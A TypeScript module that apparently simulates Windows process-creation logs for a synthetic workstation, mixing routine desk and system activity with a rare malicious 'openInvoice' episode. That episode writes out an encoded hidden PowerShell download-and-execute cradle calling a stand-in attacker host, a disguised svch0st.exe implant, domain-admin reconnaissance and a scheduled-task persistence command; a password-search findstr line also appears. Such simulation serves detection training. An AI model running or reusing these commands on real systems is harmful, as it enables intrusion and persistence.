import type { Draft } from '../draft.ts';
import type { Stage } from './stage.ts';

/** Something that happens on a host; the weight says how often. */
export interface Episode {
  readonly weight: number;
  play(stage: Stage): void;
}

const s32 = 'C:\\Windows\\System32\\';
const chrome = 'C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe';
const office = 'C:\\Program Files\\Microsoft Office\\Office15\\';
const powershell = `${s32}WindowsPowerShell\\v1.0\\powershell.exe`;
const minute = 60_000;

/** What a person at a workstation does. */
export const deskEpisodes: readonly Episode[] = [
  { weight: 20, play: browse },
  { weight: 9, play: writeDocuments },
  { weight: 7, play: typeCommands },
  {
    weight: 6,
    play: (stage) => {
      const { random } = stage;
      const id = `{${random.hex(8)}-${random.hex(4)}-${random.hex(4)}-${random.hex(4)}-${random.hex(12)}}`;
      stage.run(
        stage.parent('svchost.exe'),
        `${s32}thumbnailextractionhost.exe`,
        `${s32}ThumbnailExtractionHost.exe ${id.toUpperCase()} -Embedding`,
        { account: stage.host.person },
      );
    },
  },
  {
    weight: 3,
    play: (stage) => {
      stage.run(
        stage.parent('explorer.exe'),
        'C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe',
        '"C:\\Program Files (x86)\\Common Files\\Adobe\\ARM\\1.0\\AdobeARM.exe" ',
      );
    },
  },
  { weight: 0.5, play: openInvoice },
];

/** What Windows does by itself. */
export const systemEpisodes: readonly Episode[] = [
  {
    weight: 8,
    play: (stage) =>
      void stage.run(
        stage.parent('services.exe'),
        `${s32}taskhost.exe`,
        stage.random.chance(0.5) ? 'taskhost.exe' : `taskhost.exe $(Arg${stage.random.int(0, 3)})`,
        {
          lasts: stage.pause(30 * minute),
          account: stage.random.chance(0.7)
            ? stage.host.person
            : { username: 'LOCAL SERVICE', sid: 'S-1-5-19' },
        },
      ),
  },
  { weight: 4, play: reportError },
  { weight: 5, play: indexFiles },
  {
    weight: 6,
    play: (stage) => {
      const { random } = stage;
      const id = `{${random.pick(['AB8902B4-09CA-4BB6-B78D-A8F59079A8D5', '3EB3C877-1F16-487C-9050-104DBCD66683', 'E10F6C3A-F1AE-4ADC-AA9D-2FE65525666E'])}}`;
      stage.run(
        stage.parent('svchost.exe'),
        `${s32}dllhost.exe`,
        `C:\\Windows\\system32\\DllHost.exe /Processid:${id}`,
        { lasts: stage.pause(5 * minute) },
      );
    },
  },
  {
    weight: 4,
    play: (stage) =>
      void stage.run(
        stage.parent('svchost.exe'),
        `${s32}wbem\\wmiprvse.exe`,
        `${s32}wbem\\wmiprvse.exe -Embedding`,
        { lasts: stage.pause(20 * minute) },
      ),
  },
  { weight: 2, play: takeInventory },
  { weight: 1, play: install },
  { weight: 0.5, play: actFromAfar },
];

function browse(stage: Stage): void {
  const { random } = stage;
  const main = stage.run(stage.parent('explorer.exe'), chrome, `"${chrome}" `, {
    lasts: stage.pause(3 * 3600_000),
    slices: random.pick([1, 1, 2, 3]),
  });
  for (let tabs = random.int(1, 5); tabs > 0; tabs -= 1) {
    const line = `"${chrome}" --type=renderer --field-trial-handle=${random.int(1000, 9999)},${random.int(1e8, 2e9)} --lang=en-US --renderer-client-id=${tabs + 2} /prefetch:1`;
    stage.run(main, chrome, line, { lasts: stage.pause(40 * minute) });
  }
  if (random.chance(0.15)) {
    stage.run(
      main,
      chrome,
      `"${chrome}" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US`,
    );
  }
}

const documents = ['Budget 2024', 'Minutes', 'Offer Northwind', 'Travel expenses', 'Road map', 'CV'] as const;

function writeDocuments(stage: Stage): void {
  const { random, host } = stage;
  const mail = stage.parent('outlook.exe') ?? stage.parent('explorer.exe');
  const isSheet = random.chance(0.4);
  const program = `${office}${isSheet ? 'EXCEL.EXE' : 'WINWORD.EXE'}`;
  const name = `${random.pick(documents)} ${random.int(1, 60)}.${isSheet ? 'xlsx' : 'docx'}`;
  const editor = stage.run(
    mail,
    program,
    `"${program}" ${isSheet ? '/dde' : '/n'} "C:\\Users\\${host.user}\\Documents\\${name}"`,
    {
      lasts: stage.pause(2 * 3600_000),
      slices: random.pick([1, 2]),
    },
  );
  if (random.chance(0.3)) stage.run(editor, 'C:\\Windows\\splwow64.exe', 'C:\\Windows\\splwow64.exe 8192');
}

const commands: readonly (readonly [file: string, line: string])[] = [
  ['ipconfig.exe', 'ipconfig  /all'],
  ['whoami.exe', 'whoami  /groups'],
  ['tasklist.exe', 'tasklist  /v'],
  ['systeminfo.exe', 'systeminfo'],
  ['netstat.exe', 'netstat  -ano'],
  ['hostname.exe', 'hostname'],
  ['findstr.exe', 'findstr  /s /i password *.txt'],
  ['net.exe', 'net  use \\\\srv-file-01\\projects'],
  ['net.exe', 'net  view /domain'],
  ['net.exe', 'net  localgroup administrators'],
  ['robocopy.exe', 'robocopy  C:\\Data D:\\Backup /MIR /R:1'],
];

function typeCommands(stage: Stage): void {
  const { random } = stage;
  const shell = stage.run(
    stage.parent('explorer.exe'),
    `${s32}cmd.exe`,
    '"C:\\Windows\\system32\\cmd.exe" ',
    {
      lasts: stage.pause(3600_000) + 2 * minute,
      slices: random.pick([1, 1, 1, 2]),
    },
  );
  stage.run(shell, `${s32}conhost.exe`, `\\??\\C:\\Windows\\system32\\conhost.exe 0x${random.hex(8)}`, {
    after: 12,
    lasts: minute,
  });
  for (let count = random.int(1, 4); count > 0; count -= 1) {
    if (random.chance(0.3)) {
      stage.run(
        shell,
        `${s32}ping.exe`,
        `ping  -n ${random.int(1, 9)} 10.20.${random.int(0, 3)}.${random.int(2, 250)}`,
      );
    } else {
      const [file, line] = random.pick(commands);
      runTool(stage, shell, file, line);
    }
  }
}

function runTool(stage: Stage, shell: Draft, file: string, line: string): void {
  const tool = stage.run(shell, `${s32}${file}`, line);
  if (file === 'net.exe' && !line.includes(' use '))
    stage.run(tool, `${s32}net1.exe`, `${s32}net1 ${line.slice(5)}`, { after: 30, lasts: 60 });
}

/** A mail, its document, and what came of it. */
function openInvoice(stage: Stage): void {
  const { random, host } = stage;
  const person = host.person;
  const word = stage.run(
    stage.parent('outlook.exe') ?? stage.parent('explorer.exe'),
    `${office}WINWORD.EXE`,
    `"${office}WINWORD.EXE" /n "C:\\Users\\${host.user}\\AppData\\Local\\Temp\\Invoice ${random.int(1000, 9999)}.docm"`,
    { lasts: 40 * minute },
  );
  const script = Buffer.from(
    `iex (iwr https://beacon.bad-actor.example/${random.hex(6)})`,
    'utf16le',
  ).toString('base64');
  const shell = stage.run(
    word,
    powershell,
    `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${script}`,
    { lasts: 3 * minute },
  );
  const file = `C:\\Users\\${host.user}\\AppData\\Roaming\\Updater\\svch0st.exe`;
  const implant = stage.run(shell, file, `"${file}" -k netsvcs --beacon ${random.int(2, 12) * 10}`, {
    lasts: 12 * 3600_000,
    slices: 3,
    account: person,
  });
  const prompt = stage.run(
    implant,
    `${s32}cmd.exe`,
    'cmd.exe /c "whoami /all & net group ""Domain Admins"" /domain"',
    { lasts: minute },
  );
  stage.run(prompt, `${s32}whoami.exe`, 'whoami  /all');
  runTool(stage, prompt, 'net.exe', 'net  group "Domain Admins" /domain');
  stage.run(implant, `${s32}schtasks.exe`, `schtasks.exe /create /tn Updater /tr "${file}" /sc onlogon /f`);
}

function reportError(stage: Stage): void {
  stage.run(
    stage.parent('svchost.exe'),
    `${s32}wermgr.exe`,
    `"${s32}wermgr.exe" "-outproc" "${stage.random.int(400, 1400)}" "${stage.random.int(1000, 9000)}"`,
    { account: stage.host.person },
  );
}

function indexFiles(stage: Stage): void {
  const { random } = stage;
  const indexer = stage.parent('searchindexer.exe') ?? stage.parent('services.exe');
  stage.run(
    indexer,
    `${s32}searchprotocolhost.exe`,
    `"${s32}SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe${random.int(1, 900)}_ Global\\UsGthrCtrlFltPipeMssGthrPipe${random.int(1, 900)} 1 -2147483646 "Software\\Microsoft\\Windows Search"`,
    { lasts: 2 * minute },
  );
  stage.run(
    indexer,
    `${s32}searchfilterhost.exe`,
    `"${s32}SearchFilterHost.exe" 0 ${random.int(500, 900)} ${random.int(500, 900)} 8192`,
    { lasts: 2 * minute },
  );
}

function takeInventory(stage: Stage): void {
  const shell = stage.run(
    stage.parent('svchost.exe'),
    powershell,
    'powershell.exe -NonInteractive -NoProfile -File C:\\Scripts\\inventory.ps1',
    { lasts: minute },
  );
  stage.run(shell, `${s32}conhost.exe`, '\\??\\C:\\Windows\\system32\\conhost.exe 0x4', {
    after: 9,
    lasts: minute,
  });
}

const packages = ['7z2301-x64.msi', 'agent-9.2.1.msi', 'vpnclient.msi'] as const;

function install(stage: Stage): void {
  const installer = stage.run(stage.parent('services.exe'), `${s32}msiexec.exe`, `${s32}msiexec.exe /V`, {
    lasts: 10 * minute,
  });
  stage.run(
    installer,
    `${s32}msiexec.exe`,
    `${s32}MsiExec.exe -Embedding ${stage.random.hex(32).toUpperCase()} ${stage.random.pick(packages)}`,
    { lasts: 3 * minute },
  );
}

function actFromAfar(stage: Stage): void {
  const service = stage.run(
    stage.parent('services.exe'),
    'C:\\Windows\\PSEXESVC.exe',
    'C:\\Windows\\PSEXESVC.exe',
    { lasts: 5 * minute },
  );
  const shell = stage.run(service, `${s32}cmd.exe`, '"cmd.exe" /c C:\\Temp\\collect.bat', {
    lasts: 2 * minute,
  });
  runTool(stage, shell, 'systeminfo.exe', 'systeminfo');
  runTool(stage, shell, 'net.exe', 'net  user /domain');
}
